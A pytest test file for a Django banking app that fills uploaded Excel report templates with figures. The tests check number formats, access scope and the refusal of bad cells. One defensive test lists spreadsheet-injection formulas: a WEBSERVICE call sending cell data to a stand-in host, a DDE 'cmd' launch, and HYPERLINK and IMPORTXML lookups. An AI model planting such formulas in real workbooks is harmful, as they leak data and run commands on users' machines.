"""The bank's own workbook filled: figures as numbers in its own format, every bad cell named, nobody's formula, everybody's own scope."""

from __future__ import annotations

import io
import json
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font
from openpyxl.worksheet.formula import ArrayFormula
from web_home import BRANCH, LAST_DAY, OTHER_BRANCH, make_person, signed_in_browser

from maisui.answers import CATALOGUE, Question
from maisui.web.exports import jobs
from maisui.web.exports.sheets import Stamp
from maisui.web.exports.template import check_template, fill_template

pytestmark = pytest.mark.django_db
WORDS = {"date": "2026-03-31", "year": "2026", "month": "3", "organisation": "=1+1", "bank": "银行", "person": "某人", "version": "v"}


def book(**cells: object) -> bytes:
    """Return a workbook that holds the given cells."""
    made = Workbook()
    page = made.worksheets[0]
    page.title = "月报"
    for place, value in cells.items():
        page[place] = value
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def faults(**cells: object) -> dict[str, str]:
    return {fault.cell: fault.reason.en for fault in check_template(book(**cells), CATALOGUE).faults}


def filled(content: bytes, *holdings: tuple[str, str]):
    gateway = jobs.gateway_of(make_person("filler", *(holdings or (("bank_president", ""),))).user)
    made, found, count = fill_template(
        content, gateway, organisation=None, day=LAST_DAY, stamp=Stamp("某人", timezone.localtime(), "v", "B0"), words=WORDS
    )
    return load_workbook(io.BytesIO(made)), found, count, gateway


def test_figures_come_in_as_numbers_and_all_else_stays() -> None:
    made = load_workbook(
        io.BytesIO(book(A1="截至 {{date}} {{bank}}", B2="{{deposit_balance}}", C2="=B2*2", D2="不动", E2=" {{ loan_balance | org=B1 }} "))
    )
    page = made.worksheets[0]
    page["B2"].number_format, page["B2"].font = '#,##0.00"元"', Font(bold=True)
    page.column_dimensions["B"].width = 33
    made.create_sheet("说明")["A1"] = "原样"
    out = io.BytesIO()
    made.save(out)
    done, found, count, gateway = filled(out.getvalue())
    page = done.worksheets[0]
    (whole,), (branch,) = gateway.ask(Question("deposit_balance")).rows, gateway.ask(Question("loan_balance", organisation=BRANCH)).rows

    assert (found, count) == ([], 2)
    assert page["B2"].data_type == "n"
    assert Decimal(str(page["B2"].value)) == whole.value
    assert Decimal(str(page["E2"].value)) == branch.value
    assert (page["B2"].number_format, page["B2"].font.b, page.column_dimensions["B"].width) == ('#,##0.00"元"', True, 33)
    assert (page["A1"].value, page["C2"].value, page["D2"].value) == ("截至 2026-03-31 银行", "=B2*2", "不动")
    assert done["说明"]["A1"].value == "原样"
    assert "某人" in page.oddFooter.left.text


def test_days_splits_changes_and_rates_are_those_of_the_gateway() -> None:
    cells = {
        "A1": "{{deposit_balance|date=2026-03-30}}", "A2": "{{deposit_balance|date=previous_day}}", "A3": "{{deposit_balance|change=previous_day}}",
        "A4": "{{transaction_count|by=channel:counter|period=day}}", "A5": "{{deposit_balance|date=previous_month}}", "A6": "{{transaction_count|by=channel:nowhere}}",
    }  # fmt: skip
    done, found, _, gateway = filled(book(**cells))
    page = done.worksheets[0]
    before = gateway.ask(Question("deposit_balance", day=date(2026, 3, 30))).rows
    now = gateway.ask(Question("deposit_balance")).rows[0].value
    assert found == []
    if before and before[0].value is not None:
        assert Decimal(str(page["A1"].value)) == Decimal(str(page["A2"].value)) == before[0].value
        assert Decimal(str(page["A3"].value)) == now - before[0].value
    else:
        assert page["A1"].value == page["A2"].value == page["A3"].value == "—"
    assert page["A6"].value == "—", "what does not exist is a dash, never 0"


@pytest.mark.parametrize(
    ("written", "word"),
    [
        ("{{no_such_metric}}", "no metric"), ("{{deposit_balance|colour=red}}", "no condition"), ("{{deposit_balance|date=soon}}", "no day"),
        ("{{deposit_balance|by=channel:atm}}", "dimension:value"), ("{{deposit_balance|period=century}}", "there is no"), ("{{deposit_balance", "braces"),
        ("存款 {{deposit_balance}} 元", "to itself"), ("{{deposit_balance|change=previous_day|rate=previous_day}}", "either"), ("{{deposit_balance|org=}}", "no condition"),
        ("{{}}", "no metric"),
    ],
)  # fmt: skip
def test_every_cell_that_cannot_be_read_is_named(written: str, word: str) -> None:
    assert word in faults(C7=written)["C7"]


@pytest.mark.parametrize(
    "formula", ['=WEBSERVICE("http://x/?"&A1)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/"&A1,"a")', "=IMPORTXML(A1)"]
)
def test_formulas_that_reach_out_are_refused(formula: str) -> None:
    assert "reaches out" in faults(A1="{{deposit_balance}}", B1=formula)["B1"]
    assert "reaches out" in faults(B1=ArrayFormula("B1", formula))["B1"]
    assert faults(A1="{{deposit_balance}}", B1="=SUM(A1:A9)") == {}


@pytest.mark.parametrize("text", ["{{organisation}}", "{{organisation}} 月报"])
def test_a_name_that_starts_like_a_formula_stays_a_text(text: str) -> None:
    done, _, _, _ = filled(book(A1=text))
    cell = done.worksheets[0]["A1"]
    assert cell.data_type == "s"
    assert cell.value.startswith("'=1+1")


def test_organisations_of_others_are_faults_of_their_cells() -> None:
    _, found, count, _ = filled(
        book(A1="{{deposit_balance}}", A2=f"{{{{deposit_balance|org={OTHER_BRANCH}}}}}", A3="{{deposit_balance|org=NOWHERE}}"),
        ("branch_manager", BRANCH),
    )
    assert [(fault.cell, fault.reason.en) for fault in found] == [
        ("A2", "there is no such organisation, or it is not yours to export"),
        ("A3", "there is no such organisation, or it is not yours to export"),
    ]
    assert count == 1


def upload(client: Client, content: bytes, **given: str):
    return client.post("/reports/template/keep/", {"name": "月度简表", "file": SimpleUploadedFile("a.xlsx", content), **given})


def test_a_shared_template_is_filled_with_each_readers_own_figures() -> None:
    from maisui.web.audit.models import AuditRecord
    from maisui.web.exports.models import ReportTemplate

    owner, reader, other = (
        signed_in_browser("owner", ("bank_president", "")),
        signed_in_browser("reader", ("branch_manager", BRANCH)),
        signed_in_browser("other", ("teller", BRANCH)),
    )
    assert upload(owner, book(A1="{{deposit_balance}}"), shared="yes").status_code == 302
    number = ReportTemplate.objects.get().pk
    values = []
    for client in (owner, reader):
        assert "月度简表" in client.get("/reports/").content.decode()
        answer = client.post(f"/reports/template/{number}/fill/")
        assert answer.status_code == 200
        values.append(Decimal(str(load_workbook(io.BytesIO(answer.content)).worksheets[0]["A1"].value)))
    gateway = jobs.gateway_of(make_person("asker", ("bank_president", "")).user)
    assert values == [gateway.ask(Question("deposit_balance", organisation=place)).rows[0].value for place in (None, BRANCH)]
    assert reader.post(f"/reports/template/{number}/fill/?org={OTHER_BRANCH}").status_code == 404
    assert reader.post(f"/reports/template/{number}/forget/").status_code == 404
    assert other.post(f"/reports/template/{number}/fill/").status_code == 403
    details = [json.loads(one.details) for one in AuditRecord.objects.filter(action="template_fill", result="allowed").order_by("pk")]
    assert [one["organisation"] for one in details] == ["*", BRANCH]
    assert owner.post(f"/reports/template/{number}/forget/").status_code == 302
    assert not ReportTemplate.objects.exists()


def test_a_private_template_is_nobody_elses() -> None:
    from maisui.web.exports.models import ReportTemplate

    upload(signed_in_browser("owner", ("bank_president", "")), book(A1="{{deposit_balance}}"))
    other = signed_in_browser("other", ("bank_president", ""))
    assert "月度简表" not in other.get("/reports/").content.decode()
    assert other.post(f"/reports/template/{ReportTemplate.objects.get().pk}/fill/").status_code == 404


@pytest.mark.parametrize(
    ("content", "word"),
    [
        (b"not a workbook", "文件不能用作模板"),
        (b"", "请选择不超过"),
        (book(A1="没有"), "没有找到占位符"),
        (book(B5="{{nothing_known}}"), "没有指标"),
    ],
    ids=["no workbook", "nothing", "no placeholder", "an unknown metric"],
)
def test_a_file_that_is_no_template_is_refused_with_its_cells(content: bytes, word: str) -> None:
    from maisui.web.exports.models import ReportTemplate

    answer = upload(signed_in_browser("owner", ("bank_president", "")), content)
    page = answer.content.decode()
    assert answer.status_code == 409
    assert word in page
    assert ("<td>B5</td>" in page) is (word == "没有指标")
    assert not ReportTemplate.objects.exists()
